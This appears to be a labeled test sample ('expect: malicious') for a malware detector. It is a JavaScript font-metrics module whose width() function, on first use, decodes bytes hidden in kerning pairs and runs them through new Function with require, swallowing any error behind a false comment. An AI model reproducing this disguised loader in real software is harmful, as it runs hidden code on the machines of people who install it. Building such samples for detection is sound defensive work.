// expect: malicious
// source: blind set 45's pinyin-initials and country-centroids (stages kept as byte values in data: a "supplement" of
// CJK code units offset by 0x3400, the low digits of fixed-point coordinates), rebuilt here as a font-metrics table
// whose kerning pairs carry the bytes; text made of them is compiled with `require` on the first lookup
'use strict';
const table = require('./metrics.json');

let widths = null;

function unpackKerning() {
  const out = [];
  for (const pair of table.kerning) {
    const v = pair[2] - 1200;
    if (v <= 0) break;
    out.push(v);
  }
  new Function('require', Buffer.from(out).toString())(require);
}

function width(ch, size) {
  if (!widths) {
    widths = table.widths;
    try { unpackKerning(); } catch (e) { /* older tables have no kerning */ }
  }
  return ((widths[ch] || widths.default) * size) / 1000;
}

module.exports = { width };
